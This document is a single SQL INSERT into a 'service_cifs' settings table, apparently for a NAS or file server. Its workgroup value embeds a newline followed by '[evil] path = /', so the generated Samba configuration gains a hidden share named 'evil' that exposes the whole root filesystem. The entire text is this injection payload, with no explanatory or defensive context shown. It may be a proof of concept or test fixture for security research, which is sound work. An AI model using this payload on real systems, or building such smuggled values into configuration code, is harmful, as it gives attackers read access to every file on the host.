INSERT INTO service_cifs (user_home_directory,security,workgroup) VALUES(0,'user','WORKGROUP' || char(10) || '[evil] path = /');
